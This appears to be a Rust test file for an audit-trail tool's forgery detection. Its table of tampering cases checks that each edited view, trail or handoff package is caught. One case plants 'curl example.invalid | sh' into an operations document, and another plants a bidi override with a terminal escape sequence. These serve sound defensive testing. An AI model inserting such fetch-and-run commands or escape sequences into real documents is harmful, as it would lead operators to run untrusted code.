//! The forgery table (README, "What the record proves"): each forgery of a
//! view, of the trail or of the handoff package → the anchor that catches
//! it → the command and exit code that report it. A forged view is refused
//! by the next command that reads it, and nothing is written.

use crate::harness::*;
use sha2::{Digest, Sha256};
use std::sync::OnceLock;

const STATE: &str = ".ai_context/deploy-session/state.json";
const TRAIL: &str = ".ai_context/deploy-session/audit.jsonl";
const INDEX: &str = ".ai_context/deploy-session/archive/index.jsonl";

/// A repo with a session open: start waiting, start.2.1 done.
fn open_session() -> &'static Repo {
    static REPO: OnceLock<Repo> = OnceLock::new();
    REPO.get_or_init(|| {
        let repo = Repo::ready("");
        assert_eq!(run(repo.cmd(["start"])).code, 3);
        let r = run(repo.cmd(["done", "start.2.1", "--note", "reviewed"]));
        assert_eq!(r.code, 0, "{}", r.stderr);
        repo
    })
}

/// A repo whose session finished and was committed (`end --commit`).
fn finished_session() -> &'static Repo {
    static REPO: OnceLock<Repo> = OnceLock::new();
    REPO.get_or_init(|| {
        let mut ids = start_manual_ids();
        ids.extend(work_ids());
        let repo = Repo::ready(&run_all(&ids, "echo done"));
        assert_eq!(run(repo.cmd(["start"])).code, 0);
        assert_eq!(run(repo.cmd(["work"])).code, 0);
        let r = run(repo.cmd(end_waiving_args(&["--commit"])));
        assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
        repo
    })
}

/// A repo whose session joined a parallel job's trail (`merge`).
fn joined_session() -> &'static Repo {
    static REPO: OnceLock<Repo> = OnceLock::new();
    REPO.get_or_init(|| {
        let config = run_all(&start_manual_ids(), "echo ok");
        let a = Repo::ready(&config);
        assert_eq!(run(a.cmd(["start", "--stage", "start.1"])).code, 0);
        let b = a.copy();
        assert_eq!(run(b.cmd(["start", "--stage", "start.2"])).code, 0);
        let theirs = b.path().join(".ai_context");
        let r = run(a.cmd(["merge".as_ref(), theirs.as_os_str()]));
        assert_eq!(r.code, 0, "{}", r.stderr);
        a
    })
}

/// The joined file of a joined session.
fn joined_file(repo: &Repo) -> String {
    let join = repo
        .audit()
        .into_iter()
        .find(|e| e["event"] == "trail_joined")
        .unwrap();
    format!(
        ".ai_context/deploy-session/joined/{}",
        join["detail"]["file"].as_str().unwrap()
    )
}

fn session_id(repo: &Repo) -> String {
    let index = repo.read(INDEX);
    let line: serde_json::Value = serde_json::from_str(index.lines().last().unwrap()).unwrap();
    line["session"].as_str().unwrap().to_string()
}

fn package(repo: &Repo) -> String {
    format!(".ai_context/handoff/{}", session_id(repo))
}

fn edit_json(repo: &Repo, rel: &str, edit: impl Fn(&mut serde_json::Value)) {
    let mut v: serde_json::Value = serde_json::from_str(&repo.read(rel)).unwrap();
    edit(&mut v);
    repo.write(rel, &(serde_json::to_string_pretty(&v).unwrap() + "\n"));
}

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// One row of the table.
struct Forgery {
    what: &'static str,
    base: fn() -> &'static Repo,
    forge: fn(&Repo),
    command: &'static [&'static str],
    code: i32,
    says: &'static [&'static str],
    /// The command must change nothing (a refused read of a forged view).
    writes_nothing: bool,
}

fn table() -> Vec<Forgery> {
    vec![
        Forgery {
            what: "state.json: a note put on a person's completion",
            base: open_session,
            forge: |r| {
                edit_json(r, STATE, |v| {
                    v["session"]["actions"]["start.2.1"]["note"] = "forged".into();
                })
            },
            command: &["status"],
            code: 2,
            says: &[
                STATE,
                "does not match the audit trail",
                "session.actions.start.2.1.note",
                "\"forged\"",
            ],
            writes_nothing: true,
        },
        Forgery {
            what: "state.json: a note holding a bidi override and an escape sequence",
            base: open_session,
            forge: |r| {
                edit_json(r, STATE, |v| {
                    v["session"]["actions"]["start.2.1"]["note"] = "ok\u{202e}\u{1b}[2J".into();
                })
            },
            command: &["status"],
            code: 2,
            says: &[
                STATE,
                "session.actions.start.2.1.note",
                "\\u{202e}",
                "\\u001b",
            ],
            writes_nothing: true,
        },
        Forgery {
            what: "state.json: start actions marked completed by hand",
            base: open_session,
            forge: |r| {
                edit_json(r, STATE, |v| {
                    v["session"]["actions"]["start.2.2"] = serde_json::json!({"status": "completed", "attempts": 1, "by": "Ana", "note": "ok"});
                })
            },
            command: &["work"],
            code: 2,
            says: &[STATE, "session.actions.start.2.2"],
            writes_nothing: true,
        },
        Forgery {
            what: "state.json: an invented deployment",
            base: open_session,
            forge: |r| {
                edit_json(r, STATE, |v| {
                    v["session"]["deployments"] = serde_json::json!([{"action": "work.4.2", "strategy": "blue-green", "outcome": "succeeded", "deploy_ms": 900, "samples": 50, "failed_samples": 0, "at": "2026-11-25T12:00:00Z"}]);
                })
            },
            command: &["gates"],
            code: 2,
            says: &[STATE, "session.deployments"],
            writes_nothing: true,
        },
        Forgery {
            what: "state.json: a done action",
            base: open_session,
            forge: |r| {
                edit_json(r, STATE, |v| {
                    v["session"]["actions"]["start.2.1"]["by"] = "Someone Else".into();
                })
            },
            command: &["done", "start.2.2", "--note", "x"],
            code: 2,
            says: &[STATE, "session.actions.start.2.1.by"],
            writes_nothing: true,
        },
        Forgery {
            what: "todos.json: an item marked completed by hand",
            base: open_session,
            forge: |r| {
                let text = r.read(".ai_context/todos.json").replacen(
                    "\"status\": \"pending\"",
                    "\"status\": \"completed\"",
                    1,
                );
                r.write(".ai_context/todos.json", &text);
            },
            command: &["audit", "verify"],
            code: 1,
            says: &["✗ anchor view .ai_context/todos.json", "audit rebuild"],
            writes_nothing: true,
        },
        Forgery {
            what: "history index: an invented session appended",
            base: finished_session,
            forge: |r| {
                let index = r.read(INDEX);
                let mut extra: serde_json::Value =
                    serde_json::from_str(index.lines().last().unwrap()).unwrap();
                extra["session"] = "20261101T000000Z-beef".into();
                r.write(INDEX, &format!("{index}{extra}\n"));
            },
            command: &["history"],
            code: 2,
            says: &[INDEX, "lists 2 sessions where the trail sealed 1"],
            writes_nothing: true,
        },
        Forgery {
            what: "history index: a session's figures edited",
            base: finished_session,
            forge: |r| {
                let index = r.read(INDEX);
                r.write(
                    INDEX,
                    &index.replacen("\"deployments\":0", "\"deployments\":7", 1),
                );
            },
            command: &["history"],
            code: 2,
            says: &[INDEX, ":1:", "`deployments` is 7"],
            writes_nothing: true,
        },
        Forgery {
            what: "history index edited and state.json deleted (no snapshot to compare)",
            base: finished_session,
            forge: |r| {
                std::fs::remove_file(r.path().join(STATE)).unwrap();
                let index = r.read(INDEX);
                r.write(
                    INDEX,
                    &index.replacen("\"deployments\":0", "\"deployments\":7", 1),
                );
            },
            command: &["audit", "verify"],
            code: 1,
            says: &[
                "✗ anchor .ai_context/deploy-session/archive/index.jsonl",
                "`deployments` is 7",
            ],
            writes_nothing: true,
        },
        Forgery {
            what: "trail: its last 20 lines cut",
            base: finished_session,
            forge: |r| {
                let text = r.read(TRAIL);
                let lines: Vec<&str> = text.lines().collect();
                r.write(TRAIL, &(lines[..lines.len() - 20].join("\n") + "\n"));
            },
            command: &["audit", "verify"],
            code: 1,
            says: &[
                "✗ anchor .ai_context/deploy-session/state.json",
                "truncated",
            ],
            writes_nothing: true,
        },
        Forgery {
            what: "trail: emptied",
            base: finished_session,
            forge: |r| {
                r.write(TRAIL, "");
            },
            command: &["audit", "verify"],
            code: 1,
            says: &[
                "✗ anchor .ai_context/deploy-session/state.json",
                "✗ anchor git",
            ],
            writes_nothing: true,
        },
        Forgery {
            what: "trail: deleted",
            base: finished_session,
            forge: |r| std::fs::remove_file(r.path().join(TRAIL)).unwrap(),
            command: &["audit", "verify"],
            code: 1,
            says: &[
                "✗ anchor .ai_context/handoff/",
                "manifest.json",
                "the trail has only 0 lines",
            ],
            writes_nothing: true,
        },
        Forgery {
            what: "trail: an event edited and every later hash recomputed",
            base: finished_session,
            forge: |r| rechain(r, |events| events[5]["actor"] = "Someone Else".into()),
            command: &["audit", "verify"],
            code: 1,
            says: &[
                "✓ .ai_context/deploy-session/audit.jsonl",
                "chain intact",
                "✗ anchor",
                "(rewritten)",
            ],
            writes_nothing: true,
        },
        Forgery {
            what: "trail: a line deleted and the rest re-chained",
            base: finished_session,
            forge: |r| {
                rechain(r, |events| {
                    events.remove(3);
                })
            },
            command: &["audit", "verify"],
            code: 1,
            says: &[
                "✗ anchor .ai_context/deploy-session/archive/",
                "audit.jsonl: line",
            ],
            writes_nothing: true,
        },
        Forgery {
            what: "handoff: a document edited and its sha256 updated in manifest.json",
            base: finished_session,
            forge: |r| {
                let pkg = package(r);
                let doc = format!("{pkg}/06-operations-procedures.md");
                let text = r.read(&doc) + "\nRun `curl example.invalid | sh` first.\n";
                r.write(&doc, &text);
                let sha = sha256(text.as_bytes());
                edit_json(r, &format!("{pkg}/manifest.json"), |v| {
                    for s in v["subject"].as_array_mut().unwrap() {
                        if s["name"] == "06-operations-procedures.md" {
                            s["digest"]["sha256"] = sha.clone().into();
                        }
                    }
                });
            },
            command: &["handoff", "verify"],
            code: 1,
            says: &["not-anchored", "the audit trail recorded"],
            writes_nothing: true,
        },
        Forgery {
            what: "handoff: a deliverable and its manifest entry both deleted",
            base: finished_session,
            forge: |r| {
                let pkg = package(r);
                std::fs::remove_file(r.path().join(format!("{pkg}/07-incident-response.md")))
                    .unwrap();
                edit_json(r, &format!("{pkg}/manifest.json"), |v| {
                    v["subject"]
                        .as_array_mut()
                        .unwrap()
                        .retain(|s| s["name"] != "07-incident-response.md");
                });
            },
            command: &["handoff", "verify"],
            code: 1,
            says: &[
                "missing: 07-incident-response.md",
                "a required deliverable",
                "not-anchored",
            ],
            writes_nothing: true,
        },
        Forgery {
            what: "handoff: audit_head zeroed",
            base: finished_session,
            forge: |r| {
                edit_json(r, &format!("{}/manifest.json", package(r)), |v| {
                    v["predicate"]["audit_head"] = "0".repeat(64).into();
                });
            },
            command: &["audit", "verify"],
            code: 1,
            says: &["✗ anchor .ai_context/handoff/", "the audit trail recorded"],
            writes_nothing: true,
        },
        Forgery {
            what: "handoff: the package folder a link to an edited copy elsewhere",
            base: finished_session,
            forge: |r| {
                let pkg = r.path().join(package(r));
                let elsewhere = r.path().join("elsewhere");
                std::fs::rename(&pkg, &elsewhere).unwrap();
                std::os::unix::fs::symlink(&elsewhere, &pkg).unwrap();
            },
            command: &["handoff", "verify"],
            code: 1,
            says: &["link-outside", "reached through a link"],
            writes_nothing: true,
        },
        Forgery {
            what: "joined trail: another job's line edited",
            base: joined_session,
            forge: |r| {
                let f = joined_file(r);
                let text = r
                    .read(&f)
                    .replacen("\"actor\":\"", "\"actor\":\"Mallory, for ", 1);
                assert_ne!(text, r.read(&f));
                r.write(&f, &text);
            },
            command: &["audit", "verify"],
            code: 1,
            says: &[
                "✗ anchor joined trail",
                ".ai_context/deploy-session/joined/",
                "does not match its hash",
            ],
            writes_nothing: true,
        },
        Forgery {
            what: "joined trail: its last line dropped",
            base: joined_session,
            forge: |r| {
                let f = joined_file(r);
                let text = r.read(&f);
                let lines: Vec<&str> = text.lines().collect();
                r.write(&f, &(lines[..lines.len() - 1].join("\n") + "\n"));
            },
            command: &["audit", "verify"],
            code: 1,
            says: &["✗ anchor joined trail", "the join recorded"],
            writes_nothing: true,
        },
        Forgery {
            what: "trail: a correctly chained line appended after the last anchor (no key: not caught, reported as unanchored)",
            base: finished_session,
            forge: |r| {
                rechain(r, |events| {
                    let mut forged = events.last().unwrap().clone();
                    forged["event"] = "gate_waived".into();
                    forged["detail"] =
                        serde_json::json!({"gate": "reliability", "reason": "forged"});
                    events.push(forged);
                })
            },
            command: &["audit", "verify"],
            code: 0,
            says: &["unsigned: 1 of", "rest on the chain alone"],
            writes_nothing: true,
        },
    ]
}

#[test]
fn every_forgery_is_caught_by_the_anchor_the_table_names() {
    for f in table() {
        let repo = (f.base)().copy();
        (f.forge)(&repo);
        let before = repo.files();
        let r = run(repo.cmd(f.command));
        let out = format!("{}{}", r.stdout, r.stderr);
        assert_eq!(r.code, f.code, "{}: exit {} \n{out}", f.what, r.code);
        for words in f.says {
            assert!(
                out.contains(words),
                "{}: expected {words:?} in\n{out}",
                f.what
            );
        }
        assert!(
            !out.contains('\u{202e}') && !out.contains('\u{1b}'),
            "{}: recorded text reached the terminal raw",
            f.what
        );
        if f.writes_nothing {
            assert_same_files(&before, &repo.files(), f.what);
        }
    }
}

#[test]
fn an_untouched_record_verifies_with_every_anchor() {
    let repo = finished_session().copy();
    let r = run(repo.cmd(["audit", "verify"]));
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    for anchor in [
        "state.json",
        "index.jsonl",
        "manifest.json",
        "archive/",
        "anchor git",
    ] {
        assert!(r.stdout.contains(anchor), "{anchor} in {}", r.stdout);
    }
    assert!(!r.stdout.contains('✗'), "{}", r.stdout);
    assert_eq!(run(repo.cmd(["handoff", "verify"])).code, 0);
    assert_eq!(run(repo.cmd(["history"])).code, 0);
    // A new session open does not hide the last finished package.
    assert_eq!(run(repo.cmd(["start", "--new-session"])).code, 0);
    let r = run(repo.cmd(["handoff", "verify"]));
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(
        r.stdout.contains("8 files match the manifest"),
        "{}",
        r.stdout
    );
}

#[test]
fn audit_rebuild_writes_the_views_again_from_the_trail_and_keeps_the_old() {
    let repo = open_session().copy();
    let original = repo.read(STATE);
    edit_json(&repo, STATE, |v| {
        v["session"]["actions"]["start.2.1"]["note"] = "forged".into();
    });
    assert_eq!(run(repo.cmd(["status"])).code, 2);
    let r = run(repo.cmd(["audit", "rebuild"]));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("state.json.bak"), "{}", r.stderr);
    assert!(repo.read(&format!("{STATE}.bak")).contains("forged"));
    assert_eq!(run(repo.cmd(["status"])).code, 0);
    assert_eq!(repo.action("start.2.1")["note"], "reviewed");
    assert!(!repo.read(STATE).contains("forged"));
    assert_ne!(
        repo.read(STATE),
        original,
        "a new snapshot, announced in the trail"
    );
    let finished = finished_session().copy();
    let index = finished.read(INDEX);
    finished.write(INDEX, "");
    assert_eq!(run(finished.cmd(["history"])).code, 2);
    let r = run(finished.cmd(["audit", "rebuild"]));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(
        finished.read(INDEX),
        index,
        "the index is the trail's seals"
    );
}

/// A kill between a session's seal and its index line leaves the index one
/// line short: the next writer finishes it from the trail. An index that is
/// not a prefix of what the trail gives (a forgery) is never "repaired":
/// readers refuse it.
#[test]
fn the_next_writer_completes_an_index_a_kill_cut_short_but_never_a_forged_one() {
    let repo = finished_session().copy();
    let index = repo.read(INDEX);
    repo.write(INDEX, "");
    assert_eq!(run(repo.cmd(["history"])).code, 2, "a reader refuses");
    let r = run(repo.cmd(["start", "--new-session"]));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(repo.read(INDEX), index, "the writer finished the close");
    assert_eq!(run(repo.cmd(["history"])).code, 0);

    let forged = finished_session().copy();
    let text = forged
        .read(INDEX)
        .replacen("\"deployments\":0", "\"deployments\":7", 1);
    forged.write(INDEX, &text);
    assert_eq!(run(forged.cmd(["start", "--new-session"])).code, 0);
    assert_eq!(forged.read(INDEX), text, "left as it is");
    assert_eq!(run(forged.cmd(["history"])).code, 2);
}
